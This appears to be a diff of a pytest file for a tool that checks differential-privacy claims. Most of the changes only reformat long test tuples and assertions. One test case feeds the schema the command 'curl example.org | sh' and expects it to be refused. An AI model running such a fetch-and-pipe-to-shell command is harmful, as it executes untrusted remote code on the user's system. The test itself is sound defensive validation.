@@ -186,7 +186,11 @@ def test_what_we_refuse_the_schema_refuses_and_the_field_is_named(
         ),
         ("implemented/sampling", None, "implemented.scheme = 'poisson' contradicts"),
         ("implemented/sampling/rate", 1e-6, "implemented.sampling.rate = 1e-06 contradicts dataset.batch"),
-        ("implemented/rate_range", [0.0, 0.0], "implemented.rate_range = [0, 0] and implemented.sampling.rate"),
+        (
+            "implemented/rate_range",
+            [0.0, 0.0],
+            "implemented.rate_range = [0, 0] and implemented.sampling.rate",
+        ),
         ("implemented/rate_range", [0.0, 1.0], "a rate that was watched has a range, and no other has one"),
         ("dataset/batch", 100_000, "dataset.batch = 100000 contradicts dataset.records"),
         ("dataset/epochs", 1e308, "dataset.epochs = 1e+308"),
@@ -274,21 +278,31 @@ def test_a_claim_is_verified_in_well_under_a_second() -> None:
     assert found.holds
     assert time.process_time() - before < 5  # measured: some milliseconds
     first, *_ = str(found).splitlines()
-    assert first.startswith("The claim holds for one example added or removed, epsilon 0.9472 at delta 1e-06, ")
+    assert first.startswith(
+        "The claim holds for one example added or removed, epsilon 0.9472 at delta 1e-06, "
+    )
     assert first.endswith("provided that all of this is true, which nobody checked:")
 
 
 @pytest.mark.parametrize(
     ("path", "value", "said"),
     [
-        ("claim/epsilon", 0.947, "claim.epsilon = 0.947 is refuted: epsilon 0.947195 is reached by what runs"),
+        (
+            "claim/epsilon",
+            0.947,
+            "claim.epsilon = 0.947 is refuted: epsilon 0.947195 is reached by what runs",
+        ),
         ("claim/epsilon", 0.9471956, "claim.epsilon = 0.9471956 is not proved"),
         ("claim/delta", 1e-7, "is refuted"),
         ("certified/accounted/upper", 0.96, "certified.accounted.upper"),
         ("certified/runs/upper", None, "certified.runs.upper = nothing"),
         ("certified/sampling_verdict", "covered", "certified.sampling_verdict = 'covered'"),
         ("certified/sampling_verdict", "matches", "certified.sampling_verdict = 'matches'"),
-        ("claim/standing", "conjectured", "claim.standing = 'conjectured' is not what is found now, 'proved'"),
+        (
+            "claim/standing",
+            "conjectured",
+            "claim.standing = 'conjectured' is not what is found now, 'proved'",
+        ),
         ("command", "curl example.org | sh", "is not how a statement is checked"),
         ("certified/provided", "nothing", "certified.provided = 'nothing'"),
         ("theorems", [], "theorems are not those"),
